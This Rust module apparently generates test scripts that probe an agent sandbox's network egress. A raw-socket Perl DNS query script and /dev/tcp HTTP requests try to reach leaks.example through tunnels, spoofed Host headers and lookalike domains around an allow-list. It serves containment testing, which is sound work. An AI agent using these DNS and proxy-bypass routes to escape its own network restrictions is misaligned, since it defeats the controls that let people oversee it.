//! What an agent may try to get a name to whoever answers for it.

/// Asks each of the servers that follow for names under the first word: by UDP, by TCP, and as musl does, for both kinds of address at once
/// from one socket.
const ASKING: &str = r#"
use Socket;
my ($under, @servers) = @ARGV;
sub question { my ($name, $kind) = @_; "\x12\x34\1\0\0\1\0\0\0\0\0\0" . join("", map { chr(length) . $_ } split /\./, $name) . "\0" . pack("nn", $kind, 1) }
sub hear { my ($socket) = @_; my $bits = ""; vec($bits, fileno $socket, 1) = 1; select($bits, undef, undef, 0.5) > 0 and sysread($socket, my $answer, 512) }
for my $server (@servers) {
    my $to = pack_sockaddr_in(53, inet_aton($server));
    if (socket(my $udp, AF_INET, SOCK_DGRAM, 0)) { send($udp, question("udp.$under", 1), 0, $to) and hear($udp) }
    if (socket(my $musl, AF_INET, SOCK_DGRAM, 0)) {
        bind($musl, pack_sockaddr_in(0, INADDR_ANY));
        my @sent = grep { send($musl, question("musl.$under", $_), 0, $to) } 1, 28; hear($musl) for @sent;
    }
    local $SIG{ALRM} = sub { die }; alarm 2;
    eval { socket(my $tcp, AF_INET, SOCK_STREAM, 0); my $query = question("tcp.$under", 16);
        connect($tcp, $to) and syswrite($tcp, pack("n", length $query) . $query) and hear($tcp) };
    alarm 0;
}
"#;
/// The names that [`asking`] asks for, without what they are under.
pub const ASKED: [&str; 3] = ["musl", "tcp", "udp"];
/// How many answers of egress [`everything`] prints a line of.
pub const ANSWERS: usize = 7;

/// A shell script that asks each of `servers`, without the system's help.
pub fn asking(under: &str, servers: &[&str]) -> String {
    format!("perl -e '{ASKING}' {under} {}\n", servers.join(" "))
}

/// A shell script that sends egress a request and prints the first line of the answer.
pub fn through(method: &str, target: &str, host: &str) -> String {
    let head = format!("{method} {target} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
    format!("exec 3<>/dev/tcp/egress/9099; printf '{head}' >&3; timeout 20 head -n 1 <&3\n")
}

/// A shell script that tries names under `leaks.example` at `servers`, by the system's own way, and by what it asks egress for, where
/// `http://allowed.example/v1/` alone is allowed.
pub fn everything(servers: &[&str]) -> String {
    let mut script = asking("leaks.example", servers);
    script.push_str("timeout 20 getent ahosts resolver.leaks.example\n");
    for (method, target, host) in [
        ("CONNECT", "tunnel.leaks.example:443", "tunnel.leaks.example:443"),
        ("GET", "http://plain.leaks.example/v1/", "plain.leaks.example"),
        ("GET", "http://allowed.example.leaks.example/v1/", "allowed.example.leaks.example"),
        ("GET", "http://allowed.example/v1/", "host.leaks.example"),
        ("GET", "http://target.leaks.example/v1/", "allowed.example"),
        ("GET", "http://allowed.example:81/v1/", "allowed.example:81"),
        ("GET", "http://allowed.example/refused", "allowed.example"),
    ] {
        script.push_str(&through(method, target, host));
    }
    script
}
